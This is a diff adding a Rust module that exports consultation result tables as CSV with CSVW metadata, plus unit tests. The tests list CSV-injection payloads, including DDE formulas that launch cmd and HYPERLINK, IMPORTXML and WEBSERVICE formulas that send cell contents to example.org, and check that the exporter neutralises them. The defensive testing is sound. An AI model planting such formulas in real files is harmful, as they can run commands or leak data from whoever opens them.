@@ -1,0 +1,219 @@
+//! Tables as CSV (RFC 4180: UTF-8, CRLF, quotes where needed) and their description as CSVW.
+//!
+//! CSVW: <https://www.w3.org/TR/tabular-metadata/>.
+
+use super::notes::{Note, notes};
+use super::sheet::{self, Column, Holds, Sheet};
+use super::{HIDDEN, json};
+use crate::domain::publication::{PublishedText, Snapshot};
+use chrono::NaiveDate;
+use csv::{Terminator, WriterBuilder};
+use serde::Serialize;
+
+/// All headline tables, see [`sheet::results`].
+pub fn results(snapshot: &Snapshot) -> String {
+    write(&sheet::results(snapshot))
+}
+
+/// What became of every response, see [`sheet::balance`].
+pub fn balance(snapshot: &Snapshot) -> String {
+    write(&sheet::balance(snapshot))
+}
+
+/// The published answers in words, see [`sheet::texts`].
+pub fn texts(snapshot: &Snapshot, texts: &[PublishedText]) -> String {
+    write(&sheet::texts(snapshot, texts))
+}
+
+/// A table with its header.
+pub fn write(sheet: &Sheet) -> String {
+    let mut writer = WriterBuilder::new().terminator(Terminator::CRLF).from_writer(vec![]);
+    let header = sheet.columns.iter().map(|column| column.name);
+    writer.write_record(header).expect("memory takes every record");
+    for row in &sheet.rows {
+        writer.write_record(row.iter().map(|value| value.characters().into_owned())).expect("all records have the header's length");
+    }
+    let bytes = writer.into_inner().expect("memory takes every byte");
+    String::from_utf8(bytes).expect("text in, text out")
+}
+
+/// What the CSV files hold: `csv-metadata.json`, the name under which CSVW readers look for it.
+pub fn csvw(snapshot: &Snapshot) -> String {
+    let tables =
+        [("results.csv", sheet::results(snapshot)), ("balance.csv", sheet::balance(snapshot)), ("texts.csv", sheet::texts(snapshot, &[]))];
+    json::pretty(&Group {
+        context: ("http://www.w3.org/ns/csvw", Language { language: "en" }),
+        title: &snapshot.consultation.title,
+        publisher: &snapshot.consultation.owner,
+        issued: snapshot.published_on,
+        tables: tables.iter().map(|(url, sheet)| Description::of(url, sheet)).collect(),
+        notes: notes(snapshot),
+    })
+}
+
+#[derive(Serialize)]
+struct Group<'a> {
+    #[serde(rename = "@context")]
+    context: (&'static str, Language),
+    #[serde(rename = "dc:title")]
+    title: &'a str,
+    #[serde(rename = "dc:publisher")]
+    publisher: &'a str,
+    #[serde(rename = "dc:issued")]
+    issued: NaiveDate,
+    tables: Vec<Description>,
+    notes: Vec<Note>,
+}
+
+#[derive(Serialize)]
+struct Language {
+    #[serde(rename = "@language")]
+    language: &'static str,
+}
+
+#[derive(Serialize)]
+struct Description {
+    url: &'static str,
+    #[serde(rename = "dc:title")]
+    title: &'static str,
+    #[serde(rename = "dc:description")]
+    about: &'static str,
+    #[serde(rename = "tableSchema")]
+    schema: Schema,
+}
+
+#[derive(Serialize)]
+struct Schema {
+    columns: Vec<ColumnDescription>,
+}
+
+#[derive(Serialize)]
+struct ColumnDescription {
+    name: &'static str,
+    titles: &'static str,
+    datatype: &'static str,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    null: Option<&'static str>,
+    #[serde(rename = "dc:description")]
+    about: &'static str,
+}
+
+impl Description {
+    fn of(url: &'static str, sheet: &Sheet) -> Self {
+        let columns = sheet.columns.iter().map(ColumnDescription::of).collect();
+        Self { url, title: sheet.title, about: sheet.about, schema: Schema { columns } }
+    }
+}
+
+impl ColumnDescription {
+    fn of(column: &Column) -> Self {
+        let (datatype, null) = match column.holds {
+            Holds::Text => ("string", None),
+            Holds::Whole => ("integer", None),
+            Holds::Figure => ("integer", Some(HIDDEN)),
+            Holds::Share => ("decimal", Some(HIDDEN)),
+            Holds::Day => ("date", None),
+        };
+        Self { name: column.name, titles: column.name, datatype, null, about: column.about }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::sample;
+    use super::*;
+    use crate::domain::publication::TextBody;
+
+    /// What spreadsheets have been made to run, after OWASP's page on CSV injection.
+    const FORMULAS: [&str; 20] = [
+        "=1+1",
+        "+1+1",
+        "-1+1",
+        "@SUM(1+1)",
+        "\t=1+1",
+        "\r=1+1",
+        "\n=1+1",
+        "=cmd|' /C calc'!A0",
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(cmd|'/c calc'!A0)",
+        "=HYPERLINK(\"http://example.org?x=\"&A1,\"click\")",
+        "=IMPORTXML(CONCAT(\"http://example.org/\",A1),\"//a\")",
+        "=WEBSERVICE(\"http://example.org\")",
+        "=DDE(\"cmd\";\"/C calc\";\"x\")",
+        "=\"a\",\"=1\"",
+        "-",
+        "＝1+1",
+        "＋1",
+        "＠SUM(1)",
+    ];
+
+    fn one_text(words: &str) -> String {
+        let mut text = sample::texts().remove(0);
+        text.body = TextBody::Words { words: words.to_owned(), redacted: false };
+        texts(&sample::snapshot(), &[text])
+    }
+
+    fn read(file: &str, name: &str) -> String {
+        let mut reader = csv::Reader::from_reader(file.as_bytes());
+        let place = reader.headers().unwrap().iter().position(|header| header == name).unwrap();
+        let records: Vec<csv::StringRecord> = reader.records().map(|record| record.unwrap()).collect();
+        assert_eq!(records.len(), 1);
+        records[0][place].to_owned()
+    }
+
+    #[test]
+    fn no_cell_begins_like_a_formula() {
+        for formula in FORMULAS {
+            assert_eq!(read(&one_text(formula), "words"), format!("'{formula}"));
+        }
+    }
+
+    #[test]
+    fn no_cell_of_any_file_begins_like_a_formula() {
+        let mut snapshot = sample::snapshot();
+        snapshot.questions[0].text = "=question".into();
+        snapshot.questions[0].tables[0].rows[0].label = "@option".into();
+        snapshot.consultation.attribution = Some("+source".into());
+        let mut published = sample::texts();
+        published.iter_mut().for_each(|text| text.organisation = Some("-name".into()));
+        for file in [results(&snapshot), balance(&snapshot), texts(&snapshot, &published)] {
+            let mut reader = csv::Reader::from_reader(file.as_bytes());
+            for record in reader.records() {
+                assert!(record.unwrap().iter().all(|cell| !cell.starts_with(['=', '+', '-', '@', '\t', '\r'])));
+            }
+        }
+    }
+
+    #[test]
+    fn quotes_commas_and_line_ends_read_back() {
+        for words in ["a, b", "\"quoted\"", "two\nlines", "a\r\nb", "tab\tinside", "é 語 🚓", "\"\"", ",", "'", "x\"y,\nz"] {
+            assert_eq!(read(&one_text(words), "words"), words);
+        }
+    }
+
+    #[test]
+    fn lines_end_in_crlf() {
+        let file = balance(&sample::snapshot());
+        assert!(file.ends_with("\r\n"));
+        assert_eq!(file.matches('\n').count(), file.matches("\r\n").count());
+    }
+
+    #[test]
+    fn the_description_names_every_column_in_order() {
+        let described: serde_json::Value = serde_json::from_str(&csvw(&sample::snapshot())).unwrap();
+        let files = [results(&sample::snapshot()), balance(&sample::snapshot()), texts(&sample::snapshot(), &[])];
+        for (table, file) in described["tables"].as_array().unwrap().iter().zip(files) {
+            let columns = table["tableSchema"]["columns"].as_array().unwrap();
+            let names: Vec<&str> = columns.iter().map(|column| column["titles"].as_str().unwrap()).collect();
+            assert_eq!(names.join(","), file.lines().next().unwrap());
+        }
+    }
+
+    #[test]
+    fn a_hidden_table_is_one_line_without_figures() {
+        let file = results(&sample::snapshot());
+        let line = file.lines().find(|line| line.contains("small-base")).unwrap();
+        assert_eq!(line, "example-maps,2,2027-02-12,agree,Do you agree with the pilot?,police,,,[c],[c],7,small-base,2");
+    }
+}
